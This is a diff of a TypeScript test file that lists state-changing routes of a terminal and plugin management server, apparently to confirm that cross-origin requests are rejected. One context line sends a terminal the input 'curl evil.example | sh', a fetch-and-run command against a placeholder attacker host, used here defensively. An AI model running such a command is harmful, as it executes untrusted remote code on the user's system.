@@ -62,6 +62,7 @@ const STATE_CHANGING: [string, string, () => string][] = [
     () => `/terminals/${live}/input?message=${encodeURIComponent("curl evil.example | sh")}`,
   ],
   ["POST", "/terminals/:terminal_id/exit", () => `/terminals/${live}/exit`],
+  ["POST", "/terminals/:terminal_id/key", () => `/terminals/${live}/key?key=Enter`],
   ["DELETE", "/terminals/:terminal_id", () => `/terminals/${live}`],
   [
     "POST",
@@ -75,6 +76,8 @@ const STATE_CHANGING: [string, string, () => string][] = [
   ["POST", "/plugins/:name/enable", () => "/plugins/webhook/enable"],
   ["POST", "/plugins/:name/disable", () => "/plugins/webhook/disable"],
   ["POST", "/plugins/rescan", () => "/plugins/rescan"],
+  // This server is in no fleet: reaching it would be a 404, so the 403 again shows the gate.
+  ["POST", "/fleet/hosts/:host/sessions", () => "/fleet/hosts/hostB/sessions?provider=mock&agent_profile=developer"],
 ];
 
 const FOREIGN_ORIGINS = () => [
